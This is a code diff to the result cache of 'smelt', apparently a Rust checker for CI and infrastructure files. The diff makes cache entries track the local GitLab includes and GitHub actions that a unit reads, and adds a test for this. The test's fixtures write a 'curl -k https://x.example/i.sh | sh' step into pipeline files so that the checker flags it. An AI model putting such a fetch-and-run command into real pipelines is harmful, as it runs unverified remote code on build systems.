@@ -5,7 +5,10 @@
 //! a SHA-256 key of: smelt's version, the run's options that change results (file size limit, parse
 //! limits), every enabled rule's compiled form (metadata, message, kinds, paths, condition) and the names
 //! of all known rules, and the unit's file paths and bytes. A change to any of them is a different key,
-//! so entries are never invalidated, only left unused (delete the folder to reclaim space).
+//! so entries are never invalidated, only left unused (delete the folder to reclaim space). Files a
+//! unit reads besides its own (a Terraform `file()` or module folder, a GitLab local include, the
+//! local workflows and actions a GitHub file calls or is called by) are recorded with a hash of what
+//! was read; an entry is used only while every one of them reads the same.
 //!
 //! The cache is an optimisation and never a source of errors: an entry that cannot be read, does not
 //! parse, or names a rule this run does not have is recomputed and rewritten. Entries are written to a
@@ -149,12 +152,6 @@ fn lookup(
         };
         files.push((input.path.clone(), bytes));
     }
-    // GitLab CI rules read local includes themselves: files outside the unit, which its key cannot
-    // cover. A pipeline that never says `include` reads none.
-    let gitlab = unit.iter().any(|i| matches!(i.class, Classified::Kind(FileKind::GitlabCi, _)));
-    if gitlab && files.iter().any(|(_, b)| b.windows(7).any(|w| w == b"include")) {
-        return Outcome::Miss(unit, None);
-    }
     // A Helm chart's findings come from every file of its folder (templates, values, subcharts): all
     // of them are part of its key, and the engine reads the folder itself, so it keeps its disk input.
     let chart = unit.iter().any(|i| matches!(i.class, Classified::Kind(FileKind::HelmChart, _)));
@@ -174,14 +171,9 @@ fn lookup(
             None => Outcome::Miss(unit, Some(key)),
         };
     }
-    // Likewise GitHub workflows and actions that call local ones (`uses: ./…`), or that local callers
-    // fill with inputs (reusable workflows, composite actions): their findings depend on those files.
-    let github = unit
-        .iter()
-        .any(|i| matches!(i.class, Classified::Kind(FileKind::GithubWorkflow | FileKind::GithubAction, _)));
-    if github && files.iter().any(|(_, b)| reads_other_files(b)) {
-        return Outcome::Miss(unit, None);
-    }
+    // GitLab local includes, and the local workflows and actions a GitHub file calls or is called
+    // by, are read through the workspace, which records each read: the entry is used only while
+    // every recorded file and listing is unchanged.
     let key = unit_hash(base, &files);
     let fresh =
         |e: &Entry| e.reads.iter().all(|(k, v)| crate::engine::read_fact(k, opts.max_file_size) == *v);
@@ -191,12 +183,6 @@ fn lookup(
     // The bytes are already read: hand them to the engine so it does not read the files again.
     let inputs = files.into_iter().map(|(path, bytes)| Input::from_memory(&path, bytes)).collect();
     Outcome::Miss(inputs, Some(key))
-}
-
-/// Whether a GitHub workflow or action's findings can depend on other files of the repository.
-fn reads_other_files(bytes: &[u8]) -> bool {
-    let has = |needle: &[u8]| bytes.windows(needle.len()).any(|w| w == needle);
-    has(b"./") || has(b"workflow_call") || has(b"inputs.")
 }
 
 /// Everything but the unit's files that decides a unit's findings.
@@ -561,5 +547,58 @@ mod tests {
         let (_, stats) = check_cached(inputs(tree.path()), &rules, &opts, cache.path());
         assert_eq!((stats.hits, stats.misses), (2, 1));
         assert!(cache.path().join(".gitignore").exists());
+    }
+
+    /// A pipeline's findings depend on what its local includes say, and a workflow's on the local
+    /// action it calls: warm runs are served from the cache until one of those files changes.
+    #[test]
+    fn entries_follow_the_files_a_unit_reads() {
+        let tree = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let cache = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        write(tree.path(), "app/.gitlab-ci.yml", "include:\n  - local: ci/deploy.yml\nstages: [deploy]\n");
+        write(tree.path(), "app/ci/deploy.yml", "deploy:\n  stage: deploy\n  script:\n    - echo ok\n");
+        write(
+            tree.path(),
+            ".github/workflows/ci.yml",
+            "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/setup\n",
+        );
+        write(
+            tree.path(),
+            ".github/actions/setup/action.yml",
+            "name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo ok\n      shell: bash\n",
+        );
+        let (rules, opts) = (rules(), CheckOptions::default());
+        let plain = || json(&crate::engine::check(inputs(tree.path()), &rules, &opts));
+        let cached = || check_cached(inputs(tree.path()), &rules, &opts, cache.path());
+
+        let (cold, stats) = cached();
+        assert_eq!(stats.uncached, 0, "units that read other files are cached too");
+        assert_eq!(json(&cold), plain());
+        let (warm, stats) = cached();
+        assert_eq!(stats.misses, 0, "{stats:?}");
+        assert_eq!(json(&warm), plain());
+
+        // The included file changes: the pipeline is checked again and sees it.
+        write(
+            tree.path(),
+            "app/ci/deploy.yml",
+            "deploy:\n  stage: deploy\n  script:\n    - curl -k https://x.example/i.sh | sh\n",
+        );
+        let (after, stats) = cached();
+        assert!(stats.misses >= 1, "{stats:?}");
+        assert_eq!(json(&after), plain());
+        assert_ne!(json(&after), json(&warm), "the include's new finding is reported");
+
+        // The local action the workflow calls changes.
+        write(
+            tree.path(),
+            ".github/actions/setup/action.yml",
+            "name: setup\nruns:\n  using: composite\n  steps:\n    - run: curl -k https://x.example/i.sh | sh\n      shell: bash\n",
+        );
+        let (after_action, _) = cached();
+        assert_eq!(json(&after_action), plain());
+        let (again, stats) = cached();
+        assert_eq!(stats.misses, 0, "{stats:?}");
+        assert_eq!(json(&again), plain());
     }
 }
